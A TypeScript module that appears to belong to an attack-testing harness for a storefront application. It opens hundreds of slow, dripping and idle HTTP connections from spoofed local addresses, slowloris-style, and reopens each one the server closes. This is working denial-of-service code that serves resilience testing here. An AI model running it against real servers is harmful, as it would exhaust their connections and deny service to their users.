/** A4: connections that begin and never come to an end. The mall closes them; then the sender opens them again. */
import { connect, type Socket } from 'node:net';
import { fieldPart, fileStart, FORM_TYPE, headOf } from '../raw-socket.ts';
import type { Targets } from './targets.ts';

type Slow = {
  name: string;
  count: number;
  /** So many of them come from one network. */
  each: number;
  first: (index: number, targets: Targets) => string;
  /** Sent every half a second. */
  drip?: string;
  /** Attacks go on until the mall has said something to these. */
  isAwaited?: true;
};

const JSON_BODY = { 'content-type': 'application/json', 'content-length': 60_000 };

const SLOW: readonly Slow[] = [
  {
    ...{ name: 'A4 slow files', count: 60, each: 20, drip: 'x', isAwaited: true },
    first: (index, { buyers }) =>
      headOf('/api/uploads.uploadPicture', {
        authorization: `Bearer ${buyers[index % buyers.length]}`,
        ...{ 'content-type': FORM_TYPE, 'content-length': 9_000_000 },
      }) +
      fieldPart('moduleName', 'evaluate') +
      fileStart(),
  },
  {
    ...{ name: 'A4 dripping bodies', count: 60, each: 20, drip: ' ', isAwaited: true },
    first: () => `${headOf('/api/accounts.login', JSON_BODY)}{`,
  },
  {
    ...{ name: 'A4 dripping headers', count: 40, each: 20, drip: 'x: y\r\n' },
    first: () => 'GET /index HTTP/1.1\r\nhost: localhost\r\n',
  },
  { ...{ name: 'A4 idle connections', count: 250, each: 250 }, first: () => '' },
];

const DRIP_MS = 500;
/** Before a connection that was closed is opened again. */
const AGAIN_MS = 1_000;
/** Behind the networks of the other attacks. */
const NETWORK = 80;

/**
 * Opens them all and keeps them open until `leave`; `note` hears of every answer and every end. `answered` when those
 * have been told something whose answer takes longest.
 */
export function openSlowConnections(
  targets: Targets,
  note: (name: string, outcome: string) => void,
): { answered: Promise<void>; leave: () => void } {
  const { hostname, port } = new URL(targets.url.storefront);
  const sockets = new Set<Socket>();
  let isOver = false;
  const silent = new Set(SLOW.filter(({ isAwaited }) => isAwaited));
  const { promise: answered, resolve } = Promise.withResolvers<void>();
  const open = (slow: Slow, kind: number, index: number) => {
    const network = Math.floor(index / slow.each);
    const localAddress = `127.${NETWORK + kind}.0.${1 + network}`;
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    sockets.add(socket);
    let heard = '';
    socket.on('data', (chunk) => {
      heard += String(chunk).slice(0, 2_000);
      note(slow.name, outcomeIn(heard));
      silent.delete(slow);
      if (silent.size === 0) {
        resolve();
      }
    });
    socket.on('error', () => undefined); // the end says the same
    socket.write(slow.first(index, targets));
    const timer = setInterval(() => slow.drip && socket.write(slow.drip), DRIP_MS);
    socket.once('close', () => {
      clearInterval(timer);
      sockets.delete(socket);
      if (!isOver) {
        note(slow.name, 'closed by the mall');
        setTimeout(() => !isOver && open(slow, kind, index), AGAIN_MS);
      }
    });
  };
  SLOW.forEach((slow, kind) => {
    for (let index = 0; index < slow.count; index += 1) {
      open(slow, kind, index);
    }
  });
  return {
    answered,
    leave() {
      isOver = true;
      sockets.forEach((socket) => socket.destroy());
    },
  };
}

/** What was said: a status above 200, or a refusal. */
function outcomeIn(heard: string): string {
  const status = /^HTTP\/1\.1 (\d+)/.exec(heard)?.[1] ?? 'no HTTP';
  return status === '200' ? (/"refusal":"(\w+)"/.exec(heard)?.[1] ?? 'answered') : status;
}
